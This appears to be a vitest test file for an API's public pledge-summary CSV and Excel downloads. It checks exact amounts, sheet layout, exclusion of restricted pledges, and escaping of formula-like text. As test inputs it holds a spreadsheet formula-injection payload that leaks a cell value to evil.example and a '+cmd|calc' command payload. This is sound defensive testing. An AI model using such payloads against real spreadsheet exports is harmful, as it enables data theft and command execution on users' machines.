import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Client, startApi, type TestApi } from '../support/api.ts';
import { dialects } from '../support/databases.ts';

/**
 * The public summary's downloads (`?format=csv|xlsx`): the same figures as the JSON document, one
 * table per CSV and one sheet per table in the workbook, and no text a spreadsheet would run.
 */

const source = 'https://www.nato.int/cps/en/natohq/news.htm';
const hostileForum = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
const tableNames = ['totals', 'donors', 'categories', 'months', 'forums', 'packages'];

describe.each(dialects)('the public summary downloads on %s', (dialect) => {
  let api: TestApi;
  let summary: {
    totals: { stage: string; amount: { amount: string; currency: string }; pledges: number }[];
    byDonor: { code: string; announced: { amount: string } }[];
  };
  const today = new Date().toISOString().slice(0, 10);

  async function record(coordinator: Client, body: Record<string, unknown>): Promise<void> {
    const response = await coordinator.request('POST', '/api/v1/pledges', {
      body: { donor: 'GBR', source, announcedOn: '2026-02-12', ...body },
    });
    expect(response.statusCode, response.body).toBe(201);
  }

  beforeAll(async () => {
    api = await startApi(dialect);
    const coordinator = await api.as('coordinator');
    await record(coordinator, { amount: { amount: '150000000.00', currency: 'USD' }, forum: hostileForum });
    await record(coordinator, { amount: { amount: '0.07', currency: 'USD' }, forum: '+cmd|calc' });
    await record(coordinator, {
      amount: { amount: '999.99', currency: 'USD' },
      forum: 'UDCG',
      visibility: 'restricted',
    });
    const response = await api.public.request('GET', '/api/v1/public/summary');
    expect(response.statusCode, response.body).toBe(200);
    summary = response.json();
  }, 120_000);
  afterAll(async () => api?.close());

  test('downloads the totals as CSV with exact amounts and their currency, as the JSON has them', async () => {
    const response = await api.public.request('GET', '/api/v1/public/summary?format=csv');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="purl-public-summary-${today}-totals.csv"`,
    );
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual([
      'stage',
      'amount',
      'amount_currency',
      'pledges',
      'counts',
      'note',
    ]);
    expect(rows.map((row) => [row.stage, row.amount, row.amount_currency, row.pledges])).toEqual(
      summary.totals.map((total) => [
        total.stage,
        total.amount.amount,
        total.amount.currency,
        `${total.pledges}`,
      ]),
    );
    expect(rows[0]?.amount).toBe('150000000.07');
  });

  test.for(tableNames)('downloads the %s table as CSV', async (table, { expect }) => {
    const response = await api.public.request('GET', `/api/v1/public/summary?format=csv&table=${table}`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-disposition']).toContain(`-${table}.csv"`);
    expect(response.body.split('\r\n')[0]).toMatch(/^[a-zA-Z_,]+$/);
  });

  test('neutralises forum names a spreadsheet would run as formulas', async () => {
    const response = await api.public.request('GET', '/api/v1/public/summary?format=csv&table=forums');
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    const forums = rows.map((row) => row.forum);
    expect(forums).toContain(`'${hostileForum}`);
    expect(forums).toContain("'+cmd|calc");
    for (const forum of forums) expect(forum).not.toMatch(/^[=+\-@]/);
    // The restricted pledge's forum and money stay out of the download as out of the JSON.
    expect(forums).not.toContain('UDCG');
  });

  test('downloads every table as one sheet of a workbook, with the same figures', async () => {
    const response = await api.public.request('GET', '/api/v1/public/summary?format=xlsx');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="purl-public-summary-${today}.xlsx"`,
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(tableNames);
    const totals = workbook.getWorksheet('totals');
    expect(totals?.getRow(1).values).toEqual([
      undefined,
      'stage',
      'amount',
      'amount_currency',
      'pledges',
      'counts',
      'note',
    ]);
    expect(totals?.getCell('A2').value).toBe('announced');
    // Amounts are exact text cells, never floats.
    expect(totals?.getCell('B2').value).toBe(summary.totals[0]?.amount.amount);
    expect(totals?.getCell('C2').value).toBe('USD');
    const donors = workbook.getWorksheet('donors');
    expect(donors?.getCell('C2').value).toBe(summary.byDonor[0]?.announced.amount);
    const forums = workbook.getWorksheet('forums');
    const forumNames: unknown[] = [];
    forums?.getColumn(1).eachCell((cell) => forumNames.push(cell.value));
    expect(forumNames).toContain(`'${hostileForum}`);
    expect(forumNames.some((value) => typeof value === 'object' && value !== null)).toBe(false);
  });

  test('refuses an unknown format or table with VALIDATION_FAILED', async () => {
    for (const url of [
      '/api/v1/public/summary?format=pdf',
      '/api/v1/public/summary?format=csv&table=secrets',
    ]) {
      const response = await api.public.request('GET', url);
      expect(response.statusCode, url).toBe(422);
      expect(response.json().code).toBe('VALIDATION_FAILED');
    }
  });
});
